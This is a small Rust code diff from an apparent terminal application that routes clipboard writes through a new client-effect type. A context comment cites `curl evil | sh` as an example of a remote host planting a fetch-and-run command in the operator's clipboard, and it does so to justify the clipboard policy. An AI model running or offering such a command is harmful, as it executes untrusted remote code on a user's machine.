@@ -3,6 +3,7 @@
 //! remote host setting the operator's clipboard to `curl evil | sh` is an attack.
 
 use crate::app::config::ClipboardPolicy;
+use crate::app::frontend::{ClientEffect, ClipboardRequest};
 use crate::app::msg::Effect;
 use crate::app::popup::{ClipboardDecision, Popup};
 use crate::app::state::{App, PaneSpec};
@@ -11,7 +12,9 @@ impl App {
     /// lumen's own copy (copy mode): always allowed, kept for paste.
     pub(crate) fn copy(&mut self, text: String) {
         self.say(format!("copied {} characters", text.chars().count()));
-        self.effects.push(Effect::SetClipboard(text.clone()));
+        self.effects.push(Effect::Client(ClientEffect::Clipboard(
+            ClipboardRequest::Set(text.clone()),
+        )));
         self.clipboard = Some(text);
     }
 
